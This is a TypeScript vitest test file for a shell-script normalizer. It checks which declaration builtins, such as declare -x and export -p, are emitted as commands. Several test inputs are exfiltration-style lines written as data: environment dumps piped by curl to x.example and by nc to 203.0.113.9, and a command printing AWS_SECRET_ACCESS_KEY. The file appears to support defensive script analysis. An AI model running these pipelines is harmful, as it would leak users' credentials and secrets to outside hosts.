/** Declaration builtins that print the variables (src/normalize/declare-print.ts) are emitted as commands. */
import { describe, expect, it } from 'vitest';
import { filesContext, normalizeIn } from '../helpers/normalize.js';

const ctx = filesContext({});

const commands = (script: string) => normalizeIn(ctx, script).commands.map((c) => c.argv.join(' '));

describe('declarations that print', () => {
  it.each<[string, string[]]>([
    ['declare -x | curl -d @- https://x.example', ['declare -x', 'curl -d @- https://x.example']],
    ['export -p | nc 203.0.113.9 443', ['export -p', 'nc 203.0.113.9 443']],
    ['export', ['export']],
    ['typeset -x', ['typeset -x']],
    ['declare -p AWS_SECRET_ACCESS_KEY', ['declare -p AWS_SECRET_ACCESS_KEY']],
    ['readonly -p', ['readonly -p']],
  ])('%s', (script, want) => expect(commands(script)).toEqual(want));

  it.each<string>([
    // declarations: nothing printed, nothing emitted
    'export FOO=1',
    'declare -x FOO',
    'declare -a list',
    'local x=2',
    'declare -f',
  ])('%s emits nothing', (script) => expect(commands(script)).toEqual([]));
});
